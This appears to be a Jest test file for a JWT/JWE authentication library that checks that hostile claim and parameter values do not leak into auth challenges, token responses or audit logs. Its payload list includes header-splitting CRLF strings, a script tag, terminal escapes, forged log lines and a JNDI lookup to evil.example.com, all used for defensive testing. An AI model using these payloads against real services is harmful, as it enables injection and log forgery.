import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from '@jest/globals';
import express from 'express';
import {
  authenticate,
  createAuditTrail,
  createMemoryStores,
  type KeyRing,
  requireScope,
  tokenRouter,
} from 'passport-jwe';
import { openAuditFile, pinoSink, verifyAuditFile } from 'passport-jwe/audit';
import { pino } from 'pino';
import { loadFiles } from '../support/api-key-files.js';
import { type AttackTarget, refusedAs, startTarget } from '../support/attack-target.js';
import { sendRaw } from '../support/http.js';
import { AUDIENCE, clock, createRing, ISSUER, mintToken, secretOf } from '../support/tokens.js';

/** Each ends what it may stand in: a quoted string, a header, a line, a colour, a page. */
const HOSTILE = [
  '", realm="evil',
  '\\", error="none',
  'a\r\nX-Injected: yes',
  'a\nX-Injected: yes',
  'a\rX-Injected: yes',
  'a\r\n\r\n<script>alert(1)</script>',
  '\u0000',
  'é😀',
  '\u560d\u560aX-Injected: yes',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u2028{"level":60}',
  '"}\n{"level":60,"audit":{"type":"token.issued"}}',
  '${jndi:ldap://evil.example.com/a}',
];

let keyRing: KeyRing;
let target: AttackTarget | undefined;

beforeEach(async () => {
  keyRing = await createRing();
});

afterEach(async () => {
  await target?.close();
  target = undefined;
});

// CWE-113; RFC 6750 §3 says which characters may stand in a challenge.
describe('a challenge contains no text of a claim:', () => {
  const withoutDate = ({ date, ...headers }: Readonly<Record<string, string>>) => headers;

  test.each(HOSTILE)('%j in any claim changes no byte of the response', async (text) => {
    target = await startTarget({ keyRing, scope: 'admin' });
    const present = (claims: Record<string, unknown>) => target?.present(mintToken(keyRing, { claims }));
    const harmless = await present({});
    expect(harmless).toMatchObject({ status: 403 });

    for (const name of ['sub', 'client_id', 'jti', 'api_key_name', 'session_id', 'x', `x${text}`]) {
      const answer = await present({ [name]: text });
      expect([answer?.status, answer?.body]).toEqual([403, harmless?.body]);
      expect(withoutDate(answer?.headers ?? {})).toEqual(withoutDate(harmless?.headers ?? {}));
    }
  });

  // Those of it that are no scope tokens (RFC 6749 §3.3) make the claim malformed.
  test.each(HOSTILE.filter((text) => /[^\x20-\x7e]|["\\]/.test(text)))('%j in the scope', async (text) => {
    target = await startTarget({ keyRing, scope: 'admin' });
    const token = mintToken(keyRing, { claims: { scope: `admin ${text}` } });
    const { 'www-authenticate': challenge, ...headers } = refusedAs('claim_malformed').headers;

    expect(await target.present(token)).toMatchObject({
      ...refusedAs('claim_malformed'),
      headers: { ...headers, 'www-authenticate': `${challenge}, scope="admin"` },
    });
  });

  test.each(HOSTILE.slice(0, 10))('nor of an option: %j is rejected at construction', (text) => {
    const options = { keyRing, issuer: ISSUER, audience: AUDIENCE };
    expect(() => authenticate({ ...options, realm: text })).toThrow(TypeError);
    expect(() => authenticate({ ...options, scope: text })).toThrow(TypeError);
    expect(() => requireScope(text)).toThrow(TypeError);
  });
});

describe('the token endpoint echoes no text', () => {
  test.each(['grant_type', 'scope', 'audience', 'resource', 'user', 'session_id', 'device_id', 'client_id'])(
    'of %s',
    async (name) => {
      const apiKeys = await loadFiles({ 'demo.yaml': DEMO });
      const router = tokenRouter({ keyRing, issuer: ISSUER, audience: AUDIENCE, apiKeys, clock });
      const app = express().set('env', 'test').use('/oauth', router);
      for (const text of HOSTILE.slice(0, 12)) {
        const body = new URLSearchParams({ grant_type: 'client_credentials', [name]: text }).toString();
        const answer = await sendRaw(
          app,
          [
            'POST /oauth/token HTTP/1.1',
            'X-API-Key: sk-demo-key',
            'Content-Type: application/x-www-form-urlencoded',
            `Content-Length: ${body.length}`,
          ],
          body,
        );
        const status = name === 'client_id' ? 401 : 400;
        expect({ text, status: answer.status }).toEqual({ text, status });
        expect(JSON.stringify(answer)).not.toMatch(/injected|evil|<script|owned/i);
      }
    },
  );
});

const DEMO = 'api_key: sk-demo-key\nkey_id: demo\nname: Demo\ntype: api_call\nusers: true\nrate_limits: {}\n';

// CWE-117. Identities of other issuers may hold anything; our own are printable ASCII.
describe('a record is a line', () => {
  let directory: string;

  beforeEach(async () => {
    directory = await mkdtemp(join(tmpdir(), 'passport-jwe-'));
  });

  afterEach(() => rm(directory, { recursive: true }));

  async function openTrail() {
    const lines: string[] = [];
    const path = join(directory, 'audit.jsonl');
    const file = await openAuditFile({ path, key: secretOf(9), durable: false });
    const logger = pino({ name: 'test' }, { write: (line) => void lines.push(line) });
    const audit = createAuditTrail({ sinks: [pinoSink(logger), file], clock });
    const close = async () => {
      await audit.flush();
      await file.close();
      const { isValid, chains } = await verifyAuditFile(path, secretOf(9));
      return { log: lines.join(''), file: await readFile(path, 'utf8'), isValid, chains };
    };
    return { audit, close };
  }

  /** Control characters but the ends of lines. */
  const hasControl = (text: string) => [...text].some((character) => character < ' ' && character !== '\n');
  const parseLines = (text: string) =>
    text
      .split('\n')
      .filter((line) => line !== '')
      .map((line) => JSON.parse(line));

  test('in the log and in the audit file, for all names that a token contains', async () => {
    const { audit, close } = await openTrail();
    target = await startTarget({ keyRing, audit });
    for (const text of HOSTILE) {
      const claims = { sub: text, client_id: text, jti: text };
      expect((await target.present(mintToken(keyRing, { claims }))).status).toBe(200);
      const refused = mintToken(keyRing, { claims: { ...claims, cnf: {} } });
      expect((await target.present(refused)).status).toBe(401);
    }
    const { log, file, isValid, chains } = await close();
    // The first refusal, and how many there were afterwards.
    const records = HOSTILE.length + 2;

    expect(isValid).toBe(true);
    expect(chains).toMatchObject([{ records }]);
    for (const text of [log, file]) {
      expect(hasControl(text)).toBe(false);
      expect(parseLines(text)).toHaveLength(records);
    }
    const accepted = parseLines(log).filter(({ msg }) => msg === 'token.accepted');
    expect(accepted.map(({ audit: { subject } }) => subject)).toEqual(HOSTILE);
  });

  test('of neither, where a client asks for such a user, session or device', async () => {
    const { audit, close } = await openTrail();
    const apiKeys = await loadFiles({ 'demo.yaml': DEMO });
    const { families } = createMemoryStores({ clock });
    const router = tokenRouter({
      keyRing,
      issuer: ISSUER,
      audience: AUDIENCE,
      apiKeys,
      stores: { families },
      audit,
      clock,
    });
    const app = express().set('env', 'test').use('/oauth', router);
    const ask = async (parameters: Record<string, string>) => {
      const body = new URLSearchParams({ grant_type: 'client_credentials', ...parameters }).toString();
      const type = 'Content-Type: application/x-www-form-urlencoded';
      const lines = ['POST /oauth/token HTTP/1.1', 'X-API-Key: sk-demo-key', type];
      return (await sendRaw(app, [...lines, `Content-Length: ${body.length}`], body)).status;
    };
    const statuses = new Set<number>();
    for (const text of HOSTILE.slice(2, 12)) {
      for (const name of ['user', 'session_id', 'device_id']) statuses.add(await ask({ [name]: text }));
    }
    const printable = '<b>"\\${jndi:x}';
    expect(await ask({ scope: 'offline_access', user: printable, device_id: printable })).toBe(200);
    const { log, file, isValid } = await close();

    expect([...statuses]).toEqual([400]);
    expect(isValid).toBe(true);
    for (const text of [log, file]) {
      expect(hasControl(text)).toBe(false);
      expect(text).not.toMatch(/injected|level\\|owned/i);
      expect(parseLines(text)).toHaveLength(33);
    }
  });
});
